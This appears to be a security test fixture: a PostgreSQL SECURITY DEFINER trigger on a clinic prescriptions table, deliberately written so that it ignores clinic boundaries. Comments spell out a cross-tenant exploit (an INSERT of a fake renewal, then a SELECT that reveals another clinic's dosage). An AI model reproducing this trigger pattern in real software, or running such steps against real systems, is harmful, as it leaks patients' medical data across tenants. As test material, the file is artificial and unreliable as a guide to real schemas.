-- A clinic reads the dosage of any prescription by renewing its number, because the trigger copies with its
-- owner's rights and looks the number up in all clinics.
-- about: copy_renewed, prescriptions
-- as: hf_carebeacon_app
-- exploit: SET app.clinic_id = 'a1c00000-0000-4000-8000-00000000000a';
-- exploit: INSERT INTO care.prescriptions (clinic_id, rx_no, patient_id, drug_code, dosage, renews_rx)
-- exploit: VALUES ('a1c00000-0000-4000-8000-00000000000a', 'RX-1002',
-- exploit: 'a1c00000-0000-4000-8000-00000000000a', 'AMX', '', 'RX-2001');
-- exploit: SELECT dosage FROM care.prescriptions;
-- shows: Road-secret dosage
-- Renewals take the dosage of the prescription that they renew.
CREATE FUNCTION care.copy_renewed() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = care, pg_temp AS $$
BEGIN
  SELECT o.dosage INTO NEW.dosage FROM care.prescriptions o WHERE o.rx_no = NEW.renews_rx LIMIT 1;
  RETURN NEW;
END $$;
REVOKE ALL ON FUNCTION care.copy_renewed() FROM PUBLIC;
CREATE TRIGGER copy_renewed BEFORE INSERT ON care.prescriptions
  FOR EACH ROW WHEN (NEW.renews_rx IS NOT NULL) EXECUTE FUNCTION care.copy_renewed();
